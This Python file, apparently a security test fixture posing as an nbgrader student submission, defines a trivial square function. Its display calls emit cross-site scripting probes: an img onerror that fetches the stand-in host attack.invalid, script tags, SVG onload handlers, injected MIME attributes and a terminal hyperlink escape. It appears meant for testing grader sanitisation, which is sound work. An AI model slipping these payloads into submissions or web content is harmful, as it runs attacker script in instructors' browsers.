"""Выводит HTML, JavaScript, SVG и виджет: преподаватель откроет их в своём браузере.

Откуда: проверено на nbgrader 0.9: display(HTML(…)) выполняется в formgrader.
"""
# task: square
# deserves: 2

from IPython.display import HTML, SVG, Javascript, display

display(HTML("<img src=x onerror='fetch(`//attack.invalid`)'><script>alert('attack')</script>"))
display(Javascript("alert('attack')"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>1</script></svg>"))
display({"image/svg+xml": "<svg onload=alert(1)>", "text/html": "<b>attack"}, raw=True)
display({"text/markdown": "<img src=x onerror=alert(1)>", "text/latex": "$\\href{x}$"}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": "1"}}, raw=True)
display({"image/png": "x' onerror='alert(1)", "image/jpeg": "<script>"}, raw=True)
print("<script>alert('attack')</script>\x1b]8;;http://attack.invalid\x07ссылка\x1b]8;;\x07")


def square(x):
    return x * x
